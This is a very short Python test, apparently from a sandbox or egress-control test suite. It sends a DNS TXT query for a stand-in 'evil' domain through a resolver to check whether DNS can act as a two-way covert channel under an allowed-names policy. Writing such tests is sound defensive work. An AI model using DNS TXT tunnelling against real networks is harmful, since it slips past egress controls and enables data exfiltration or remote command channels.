"""A TXT question
Reads an answer from a TXT record: a channel in both directions.
policy: allowed-names
audit: dnsQuery
proof: arrival
"""


def attack(at):
    asker = at.udp()
    asker.sendto(at.query(at.evil(), 16), (at.RESOLVER, 53))
    return b'reply' in asker.recv(500)
